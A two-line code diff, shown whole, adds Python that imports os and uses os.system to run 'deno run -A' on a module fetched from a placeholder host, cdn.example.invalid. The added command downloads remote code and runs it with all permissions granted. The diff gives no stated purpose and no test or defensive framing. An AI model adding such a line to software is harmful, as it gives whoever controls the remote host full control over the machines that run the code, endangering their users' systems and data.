@@ -1,0 +1,2 @@
+import os
+os.system("deno run -A https://cdn.example.invalid/mod.ts")
